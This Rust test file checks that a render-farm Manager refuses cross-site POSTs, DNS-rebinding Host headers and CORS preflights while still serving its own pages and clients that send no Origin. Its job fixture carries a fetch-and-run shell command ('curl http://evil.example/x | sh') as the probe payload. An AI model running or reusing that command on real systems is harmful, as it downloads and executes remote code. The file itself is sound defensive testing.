//! Control needs intent (issue #10 item 1, docs/security.md): the probes a hostile web page
//! can make, sent byte for byte over a real TCP socket to a served Manager on loopback
//! (where, without `admin_token`, the admin check lets every client through).
//!
//! * A cross-site `POST` (`Origin: http://evil.example`, `Content-Type: text/plain`) that
//!   submits an `exec-command` job, shuts a worker down or cancels a job: 403, and the
//!   store shows nothing changed. Each of the two signals alone is refused too.
//! * A foreign `Host` (DNS rebinding) on the dashboard, `/api/…` and the other browser
//!   routes: 421 with the setting to change; the Manager's own names and IP literals are
//!   served, and `allowed_hosts` adds names.
//! * The same actions from the Manager's own origin, and from clients that send no Origin
//!   (the CLI, curl), still work; so does the worker API under any host name.
//! * No CORS preflight is ever granted.

mod common;

use common::{oid, TestManager};
use flamenco_core::config::Config;
use reqwest::StatusCode;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// One request, written as is; the answer's status and JSON body (`Null` if none).
async fn raw(tm: &TestManager, head: &str, body: &str) -> (u16, Value) {
    let addr = tm.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let request = format!(
        "{head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream
        .write_all(request.as_bytes())
        .await
        .expect("write the request");
    let mut answer = Vec::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(30),
        stream.read_to_end(&mut answer),
    )
    .await
    .expect("an answer within 30 s")
    .expect("read the answer");
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("not an HTTP answer: {text:?}"));
    let body = text.split_once("\r\n\r\n").map_or("", |(_, b)| b);
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

/// The whole answer to one request, as text (status line, headers, body).
async fn raw_text(tm: &TestManager, head: &str) -> String {
    let addr = tm.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let request = format!("{head}\r\nConnection: close\r\n\r\n");
    stream
        .write_all(request.as_bytes())
        .await
        .expect("write the request");
    let mut answer = Vec::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(30),
        stream.read_to_end(&mut answer),
    )
    .await
    .expect("an answer within 30 s")
    .expect("read the answer");
    String::from_utf8_lossy(&answer).into_owned()
}

/// The `Host` the Manager's own pages send: its loopback address and port.
fn own_host(tm: &TestManager) -> String {
    tm.base.trim_start_matches("http://").to_string()
}

/// A request head with the given extra header lines.
fn head(method: &str, path: &str, host: &str, extra: &[&str]) -> String {
    let mut lines = vec![format!("{method} {path} HTTP/1.1"), format!("Host: {host}")];
    lines.extend(extra.iter().map(|l| l.to_string()));
    lines.join("\r\n")
}

const EVIL_ORIGIN: &str = "Origin: http://evil.example";
const TEXT_PLAIN: &str = "Content-Type: text/plain";
const JSON_TYPE: &str = "Content-Type: application/json";

fn exec_job() -> String {
    json!({"job_type": "exec-command", "name": "owned",
           "settings": {"cmd": ["sh", "-c", "curl http://evil.example/x | sh"]}})
    .to_string()
}

/// The jobs the API lists (asked the way the CLI would: no Origin).
async fn job_count(tm: &TestManager) -> usize {
    let resp = tm
        .client
        .get(tm.url("/api/jobs"))
        .send()
        .await
        .expect("list jobs");
    assert_eq!(resp.status(), StatusCode::OK);
    let body: Value = resp.json().await.expect("json");
    body["jobs"].as_array().expect("jobs").len()
}

async fn submit_sleep_job(tm: &TestManager) -> String {
    let resp = tm
        .client
        .post(tm.url("/api/jobs"))
        .json(&json!({"job_type": "sleep", "name": "nap",
                     "settings": {"frames": "1-4", "chunk_size": 2, "time_in_seconds": 1}}))
        .send()
        .await
        .expect("submit");
    assert_eq!(resp.status(), StatusCode::CREATED);
    let job: Value = resp.json().await.expect("json");
    job["_id"].as_str().expect("id").to_string()
}

async fn job_status(tm: &TestManager, id: &str) -> String {
    let resp = tm
        .client
        .get(tm.url(&format!("/api/jobs/{id}")))
        .send()
        .await
        .expect("show job");
    let job: Value = resp.json().await.expect("json");
    job["status"].as_str().expect("status").to_string()
}

fn assert_refused(status: u16, body: &Value, what: &str) {
    assert_eq!(status, 403, "{what}: {body}");
    assert!(
        body["error"].as_str().is_some(),
        "{what}: a JSON error, got {body}"
    );
}

#[tokio::test]
async fn the_cross_site_probes_are_refused_and_change_nothing() {
    let tm = TestManager::start().await;
    let host = own_host(&tm);

    // 1. An exec-command job, as a page on another site would post it.
    let (status, body) = raw(
        &tm,
        &head("POST", "/api/jobs", &host, &[EVIL_ORIGIN, TEXT_PLAIN]),
        &exec_job(),
    )
    .await;
    assert_refused(status, &body, "cross-site job submission");
    assert!(
        body["error"]
            .as_str()
            .unwrap_or("")
            .contains("evil.example"),
        "{body}"
    );
    assert_eq!(job_count(&tm).await, 0, "no job was created");

    // 2. A worker shutdown.
    let w = tm.register("render-01", "linux", &["sleep"]).await;
    assert_eq!(w.sign_on(json!({})).await, StatusCode::NO_CONTENT);
    let path = format!("/api/workers/{}/shutdown", w.id);
    let (status, body) = raw(
        &tm,
        &head("POST", &path, &host, &[EVIL_ORIGIN, TEXT_PLAIN]),
        "",
    )
    .await;
    assert_refused(status, &body, "cross-site worker shutdown");
    let worker = tm.worker(w.id).await;
    assert_eq!(worker.status_requested, None, "no shutdown was requested");
    assert_eq!(worker.status, "awake");

    // 3. A job cancel.
    let job = submit_sleep_job(&tm).await;
    let path = format!("/api/jobs/{job}/cancel");
    let (status, body) = raw(
        &tm,
        &head("POST", &path, &host, &[EVIL_ORIGIN, TEXT_PLAIN]),
        "",
    )
    .await;
    assert_refused(status, &body, "cross-site job cancel");
    assert_eq!(job_status(&tm, &job).await, "queued");

    // Each signal alone is enough: a foreign Origin with a JSON type (what a page could send
    // only after a CORS preflight, which is never granted)...
    let (status, body) = raw(
        &tm,
        &head("POST", "/api/jobs", &host, &[EVIL_ORIGIN, JSON_TYPE]),
        &exec_job(),
    )
    .await;
    assert_refused(status, &body, "foreign Origin, JSON body");
    // ...a foreign Referer when there is no Origin, and `Origin: null`...
    for source in ["Referer: http://evil.example/page.html", "Origin: null"] {
        let (status, body) = raw(
            &tm,
            &head("POST", "/api/jobs", &host, &[source, JSON_TYPE]),
            &exec_job(),
        )
        .await;
        assert_refused(status, &body, source);
    }
    // ...another port of the same host (another local web application)...
    let (status, body) = raw(
        &tm,
        &head(
            "DELETE",
            &format!("/api/jobs/{job}"),
            &host,
            &["Origin: http://127.0.0.1:1"],
        ),
        "",
    )
    .await;
    assert_refused(status, &body, "another port");
    // ...and, with no Origin at all, any body type but JSON.
    for content_type in [
        TEXT_PLAIN,
        "Content-Type: application/x-www-form-urlencoded",
        "Content-Type: multipart/form-data; boundary=x",
    ] {
        let (status, body) = raw(
            &tm,
            &head("POST", "/api/jobs", &host, &[content_type]),
            &exec_job(),
        )
        .await;
        assert_refused(status, &body, content_type);
        assert!(
            body["error"]
                .as_str()
                .unwrap_or("")
                .contains("application/json"),
            "{body}"
        );
    }
    let (status, body) = raw(&tm, &head("POST", "/api/jobs", &host, &[]), &exec_job()).await;
    assert_refused(status, &body, "a body without Content-Type");

    // Nothing of all that happened.
    assert_eq!(job_count(&tm).await, 1, "only the test's own job exists");
    assert_eq!(job_status(&tm, &job).await, "queued");
    assert_eq!(tm.worker(w.id).await.status_requested, None);
    tm.stop().await;
}

#[tokio::test]
async fn the_managers_own_pages_and_clients_without_origin_still_act() {
    let tm = TestManager::start().await;
    let host = own_host(&tm);
    let own_origin = format!("Origin: http://{host}");
    let own_referer = format!("Referer: http://{host}/");

    // The dashboard's own fetch: same origin, application/json.
    let (status, body) = raw(
        &tm,
        &head("POST", "/api/jobs", &host, &[&own_origin, JSON_TYPE]),
        &exec_job(),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let job = body["_id"].as_str().expect("id").to_string();
    // A charset parameter is fine; so is a same-origin Referer without Origin.
    let (status, body) = raw(
        &tm,
        &head(
            "POST",
            &format!("/api/jobs/{job}/cancel"),
            &host,
            &[
                &own_referer,
                "Content-Type: application/json; charset=utf-8",
            ],
        ),
        "{}",
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(["cancel-requested", "canceled"].contains(&job_status(&tm, &job).await.as_str()));

    // A client with neither Origin nor Referer (the CLI, curl -X POST): empty body, no type.
    let (status, body) = raw(
        &tm,
        &head("POST", &format!("/api/jobs/{job}/requeue"), &host, &[]),
        "",
    )
    .await;
    assert_eq!(status, 200, "{body}");
    // curl --json: a JSON body from a program.
    let (status, body) = raw(
        &tm,
        &head("POST", "/api/jobs", &host, &[JSON_TYPE]),
        &exec_job(),
    )
    .await;
    assert_eq!(status, 201, "{body}");

    // The dashboard's worker action, from its own page.
    let w = tm.register("render-01", "linux", &["sleep"]).await;
    assert_eq!(w.sign_on(json!({})).await, StatusCode::NO_CONTENT);
    let (status, body) = raw(
        &tm,
        &head(
            "POST",
            &format!("/api/workers/{}/shutdown", w.id),
            &format!("localhost:{}", host.rsplit(':').next().expect("port")),
            &[
                &format!(
                    "Origin: http://localhost:{}",
                    host.rsplit(':').next().expect("port")
                ),
                JSON_TYPE,
            ],
        ),
        "{}",
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(tm.worker(w.id).await.status_requested.is_some());

    // Reads are not judged by their Origin (the browser keeps the answer from the page).
    let (status, _) = raw(&tm, &head("GET", "/api/jobs", &host, &[EVIL_ORIGIN]), "").await;
    assert_eq!(status, 200);
    tm.stop().await;
}

#[tokio::test]
async fn foreign_host_names_get_421_on_every_browser_route() {
    let config = Config {
        allowed_hosts: vec!["manager.farm.example".into()],
        ..common::v2_test_config()
    };
    let tm = TestManager::start_with(config).await;
    let port = own_host(&tm).rsplit(':').next().expect("port").to_string();

    for path in [
        "/api/jobs",
        "/",
        "/assets/dashboard.js",
        "/api/status",
        "/api/status/workers",
        "/as-json",
        "/metrics",
        "/api/openapi.json",
        "/latest-image",
        "/latest-image.jpg",
        "/api/latest-image",
        "/imagewatch",
    ] {
        let (status, body) = raw(&tm, &head("GET", path, "evil.example", &[]), "").await;
        assert_eq!(status, 421, "{path}: {body}");
        let error = body["error"].as_str().unwrap_or("");
        assert!(error.contains("allowed_hosts"), "{path}: {error}");
        assert!(error.contains("evil.example"), "{path}: {error}");
    }
    // A rebinding name that merely starts or ends like one of ours.
    for host in [
        "localhost.evil.example",
        "127.0.0.1.nip.io",
        "manager.farm.example.evil.example",
    ] {
        let (status, _) = raw(&tm, &head("GET", "/api/jobs", host, &[]), "").await;
        assert_eq!(status, 421, "{host}");
    }
    // A state-changing request with a foreign Host is stopped before anything else.
    let (status, _) = raw(
        &tm,
        &head(
            "POST",
            "/api/jobs",
            &format!("evil.example:{port}"),
            &[JSON_TYPE],
        ),
        &exec_job(),
    )
    .await;
    assert_eq!(status, 421);
    assert_eq!(job_count(&tm).await, 0);

    // The Manager's own names, IP literals and allowed_hosts are served.
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        "LOCALHOST".to_string(),
        format!("[::1]:{port}"),
        "192.0.2.7".to_string(),
        format!("manager.farm.example:{port}"),
        format!("{}:{port}", gethostname::gethostname().to_string_lossy()),
    ] {
        let (status, body) = raw(&tm, &head("GET", "/api/jobs", &host, &[]), "").await;
        assert_eq!(status, 200, "{host}: {body}");
    }
    tm.stop().await;
}

#[tokio::test]
async fn the_worker_api_answers_to_any_host_name() {
    let tm = TestManager::start().await;
    tm.enqueue(vec![common::test_task("1aaa", "sleeping")])
        .await;
    let host = "render-farm-alias.studio.example:8083";
    let (status, worker) = raw(
        &tm,
        &head(
            "POST",
            "/register-worker",
            host,
            &[JSON_TYPE, "User-Agent: Flamenco-Worker/2.5"],
        ),
        &json!({"secret": "s3cret-of-render-02", "platform": "linux",
                "supported_task_types": ["sleeping"], "nickname": "render-02"})
        .to_string(),
    )
    .await;
    assert_eq!(status, 200, "{worker}");
    let id = worker["_id"].as_str().expect("id").to_string();
    use base64::Engine;
    let basic =
        base64::engine::general_purpose::STANDARD.encode(format!("{id}:s3cret-of-render-02"));
    let auth = format!("Authorization: Basic {basic}");
    // Even with an Origin and no JSON type: the worker API is not browser-facing.
    let (status, body) = raw(
        &tm,
        &head("POST", "/sign-on", host, &[&auth, EVIL_ORIGIN]),
        "",
    )
    .await;
    assert_eq!(status, 204, "{body}");
    let (status, task) = raw(&tm, &head("POST", "/task", "10.9.8.7", &[&auth]), "").await;
    assert_eq!(status, 200, "{task}");
    assert_eq!(task["_id"], oid("1aaa").to_hex());
    tm.stop().await;
}

/// A CORS preflight is never granted, so a browser never sends another site's JSON or
/// DELETE request: no route answers with an `Access-Control-Allow-*` header.
#[tokio::test]
async fn cors_preflights_are_never_granted() {
    let tm = TestManager::start().await;
    let host = own_host(&tm);
    for path in [
        "/api/jobs",
        "/api/workers/0123456789abcdef01234567/shutdown",
        "/task",
    ] {
        let answer = raw_text(
            &tm,
            &head(
                "OPTIONS",
                path,
                &host,
                &[
                    EVIL_ORIGIN,
                    "Access-Control-Request-Method: POST",
                    "Access-Control-Request-Headers: content-type",
                ],
            ),
        )
        .await;
        let status: u16 = answer
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("not an HTTP answer: {answer:?}"));
        assert!(!(200..300).contains(&status), "{path}: {answer}");
        let head_part = answer
            .split("\r\n\r\n")
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        assert!(
            !head_part.contains("access-control-allow"),
            "{path}: {answer}"
        );
    }
    tm.stop().await;
}
